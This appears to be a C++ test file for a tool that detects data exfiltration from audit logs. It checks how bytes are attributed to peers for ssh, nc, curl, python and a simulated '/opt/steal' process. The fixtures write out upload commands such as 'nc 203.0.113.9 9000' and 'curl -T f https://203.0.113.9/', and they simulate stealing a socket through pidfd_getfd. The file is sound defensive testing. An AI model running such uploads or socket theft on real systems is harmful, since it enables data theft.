@@ -1,0 +1,234 @@
+#include "host_with_cron.hpp"
+
+/// Bytes on numbers whose opening is not in the log: opened before it begins, by a call that no
+/// rule asks for, or received from another process.
+namespace auexfil::test {
+namespace {
+
+constexpr std::int64_t kMega = 1'000'000;
+
+/// In kB: the host's daemons write a few bytes of their own.
+std::uint64_t unattributed(const Log& log) {
+  return tell_host(log.text()).book->unattributed().total() / 1000;
+}
+
+/// An ssh that was there before the log began, known by its title.
+CronHost old_ssh(int fd = 3) {
+  CronHost log;
+  log.there(700, 1, "/usr/bin/ssh");
+  log.who(700).ses = 5;
+  for (int i = 0; i < 4; ++i) {
+    log.write(700, fd, 60 * kMega);
+  }
+  return log;
+}
+
+}  // namespace
+
+TEST_CASE("unseen: a tool that connected before the log began") {
+  const transfer::Fact fact = one(old_ssh());
+  CHECK(fact.tool == "ssh");
+  CHECK(fact.bytes_out == 240U * kMega);
+  CHECK(fact.basis == transfer::Basis::estimated);
+  CHECK(fact.automation != transfer::Verdict::attended);
+}
+
+TEST_CASE("unseen: what is no socket of a tool, and is told by coverage") {
+  SECTION("standard output") {
+    const CronHost log = old_ssh(1);
+    CHECK(tell(log).empty());
+    CHECK(unattributed(log) == 240'000);
+  }
+  SECTION("pwrite: only files take it") {
+    CronHost log;
+    log.there(700, 1, "/usr/bin/ssh");
+    log.call(700, "pwrite64", 200 * kMega, {3, 0x7f, 0});
+    log.write(700, 3, 200 * kMega);
+    CHECK(tell(log).empty());
+    CHECK(unattributed(log) == 0);
+  }
+  SECTION("a program that no entry describes") {
+    CronHost log;
+    log.there(700, 1, "/usr/bin/python3");
+    log.write(700, 3, 200 * kMega);
+    CHECK(tell(log).empty());
+    CHECK(unattributed(log) == 200'000);
+  }
+  SECTION("a person's program counts nothing") {
+    CronHost log;
+    const int shell = log.person(CronHost::kSshd, 500, 5);
+    log.write(shell, 3, 200 * kMega);
+    CHECK(unattributed(log) == 0);
+  }
+}
+
+TEST_CASE("unseen: a call that only sockets take makes a transfer to an unknown peer") {
+  const std::string call = GENERATE("sendto", "sendmsg");
+  CronHost log;
+  log.there(700, 1, "/usr/bin/python3");
+  log.call(700, call, 200 * kMega, {3, 0x7f, 200 * kMega});
+  const transfer::Fact fact = one(log);
+  CHECK(fact.tool == "other");
+  REQUIRE(fact.destinations.size() == 1);
+  CHECK_FALSE(fact.destinations[0].address);
+  CHECK(sum(fact) == "out 200000000 at-least");
+  CHECK(tell_host(log.text()).book->unaddressed().total() == 200U * kMega);
+}
+
+TEST_CASE("unseen: daemons' talk over local sockets is no transfer") {
+  CronHost log;
+  log.there(700, 1, "/usr/bin/dbus-daemon");
+  for (int i = 0; i < 100; ++i) {
+    log.call(700, "sendmsg", 300, {3, 0x7f, 0});
+  }
+  CHECK(tell(log).empty());
+  CHECK(unattributed(log) == 30);
+}
+
+TEST_CASE("unseen: an address of a local socket takes the bytes out") {
+  CronHost log;
+  log.there(700, 1, "/usr/bin/python3");
+  log.call(700, "sendto", 200 * kMega, {3, 0x7f, 9}, {"SOCKADDR saddr=" + unix_saddr("/run/x")});
+  log.write(700, 3, 200 * kMega);
+  CHECK(tell(log).empty());
+  CHECK(unattributed(log) == 0);
+}
+
+TEST_CASE("unseen: EISCONN tells the peer late, a new connect takes another number") {
+  CronHost log;
+  log.there(700, 1, "/usr/bin/ssh");
+  log.write(700, 3, 60 * kMega);
+  SECTION("the same connection") {
+    log.connect(700, 3, kDrop, 22, -106);
+    const transfer::Fact fact = one(log);
+    REQUIRE(fact.destinations.size() == 1);
+    CHECK(fact.destinations[0].address == audit::IpAddress::parse(kDrop));
+    CHECK(fact.bytes_out == 60U * kMega);
+  }
+  SECTION("another") {
+    log.connect(700, 3, kDrop, 22);
+    log.write(700, 3, 5);
+    const auto facts = tell(log);
+    REQUIRE(facts.size() == 1);
+    REQUIRE(destination(facts[0], kDrop) != nullptr);
+    CHECK(destination(facts[0], kDrop)->bytes_out == 5);
+    CHECK(unattributed(log) == 60'000);  // no open(2) in the log: it may have been a file
+  }
+}
+
+TEST_CASE(
+    "unseen: where sockets are audited, the number of a program that began in the log is a file") {
+  CronHost log;
+  const int nc = log.tool("/usr/bin/nc", {"nc", "203.0.113.9", "9000"});
+  log.tcp(nc, 3, kDrop, 9000);
+  log.write(nc, 3, 5);
+  log.done(nc);
+  const int scp = log.tool("/usr/bin/curl", {"curl", "-o", "f", "https://203.0.113.9/f"});
+  log.write(scp, 5, 200 * kMega);
+  log.exit(scp);
+  CHECK(to(tell(log), kDrop).size() == 1);
+  CHECK(unattributed(log) == 0);
+}
+
+TEST_CASE("unseen: where socket(2) is not audited, it may be one") {
+  const auto no_sockets = [](const Called& call) {
+    return call.name != "socket" && call.name != "connect";
+  };
+  CronHost log("", no_sockets);
+  const int python = log.tool("/usr/bin/python3", {"python3", "up.py"});
+  log.tcp(python, 3, kDrop, 443);
+  log.write(python, 3, 180 * kMega);
+  log.done(python);
+  CHECK(unattributed(log) == 180'000);
+}
+
+TEST_CASE("pidfd_getfd: the taker's bytes go to the taken socket's peer, as its own") {
+  CronHost log;
+  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "https://203.0.113.9/"});
+  log.tcp(curl, 5, kDrop, 443);
+  log.write(curl, 5, 1000);
+  const int thief = log.daemon(790, "/opt/steal");
+  const bool by_clone = GENERATE(false, true);
+  CAPTURE(by_clone);
+  if (!by_clone) {
+    log.call(thief, "pidfd_open", 3, {static_cast<std::uint64_t>(curl), 0});
+    log.call(thief, "pidfd_getfd", 6, {3, 5, 0});
+  } else {
+    log.fork(thief, 795, 0x1200011 | 0x1000);
+    log.tcp(795, 5, kDrop, 443);
+    log.call(thief, "pidfd_getfd", 6, {9, 5, 0});
+  }
+  log.write(thief, 6, 180 * kMega);
+  bool found = false;
+  for (const transfer::Fact& fact : tell(log)) {
+    if (fact.process.exe == "/opt/steal" && fact.bytes_out.value_or(0) >= 180U * kMega) {
+      found = true;
+      CHECK(destination(fact, kDrop) != nullptr);
+      CHECK((fact.basis != transfer::Basis::measured || !by_clone));
+    }
+  }
+  CHECK(found);
+}
+
+TEST_CASE("MSG_FASTOPEN: the sendto that began the connection names its peer") {
+  CronHost log;
+  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "https://203.0.113.9/"});
+  log.socket(curl, 5);
+  log.call(curl, "sendto", -115, {5, 0x7f, 500, 0x20000000},
+           {"SOCKADDR saddr=" + saddr(kDrop, 443)});
+  log.write(curl, 5, 180 * kMega);
+  log.done(curl, 5);
+  const transfer::Fact fact = one(log);
+  REQUIRE(destination(fact, kDrop) != nullptr);
+  CHECK(destination(fact, kDrop)->port == 443);
+  CHECK(fact.bytes_out == 180U * kMega);
+}
+
+TEST_CASE("a connection that was given away has an unknown remainder, not none") {
+  CronHost log;
+  const int nc = log.tool("/usr/bin/nc", {"nc", "-F", "203.0.113.9", "22"});
+  log.tcp(nc, 3, kDrop, 22);
+  log.call(nc, "sendmsg", 1, {1, 0x7f, 0});
+  log.exit(nc);
+  const transfer::Fact fact = one(log);
+  CHECK_FALSE(fact.bytes_out);
+  CHECK(has_note(fact, "passed"));
+}
+
+TEST_CASE("a stranger that received something and writes much is the likeliest carrier") {
+  CronHost log;
+  const int receiver = log.tool("/opt/relay", {"/opt/relay"});
+  log.call(receiver, "socket", 3, {1, 1, 0});
+  const int nc = log.tool("/usr/bin/nc", {"nc", "-F", "203.0.113.9", "22"});
+  log.tcp(nc, 3, kDrop, 22);
+  log.call(nc, "sendmsg", 1, {1, 0x7f, 0});
+  log.exit(nc);
+  log.call(receiver, "recvmsg", 1, {3, 0x7f, 0});
+  log.write(receiver, 9, 150 * kMega);
+  const auto facts = to(tell(log), kDrop);
+  REQUIRE(facts.size() == 1);
+  CHECK(facts[0].bytes_out == 150U * kMega);
+  CHECK(facts[0].basis == transfer::Basis::estimated);
+  CHECK(has_note(facts[0], "nc (pid"));
+  CHECK(has_note(facts[0], "relay (pid"));
+}
+
+TEST_CASE("socketcall without its arguments: bytes go to the latest connection, as an estimate") {
+  CronHost log;
+  log.arch = 0x40000003;
+  const int old = log.tool("/usr/bin/up32", {"up32"});
+  log.call(old, "socketcall", 3, {1, 0xff, 0});
+  log.call(old, "socketcall", 0, {3, 0xff, 0}, {"SOCKADDR saddr=" + saddr(kDrop, 9000)});
+  SECTION("by socketcall") {
+    log.call(old, "socketcall", 120 * kMega, {9, 0xff, 0});
+  }
+  SECTION("by write") {
+    log.write(old, 3, 120 * kMega);
+  }
+  const transfer::Fact fact = one(log);
+  REQUIRE(destination(fact, kDrop) != nullptr);
+  CHECK(fact.bytes_out == 120U * kMega);
+  CHECK(fact.basis == transfer::Basis::estimated);
+}
+
+}  // namespace auexfil::test
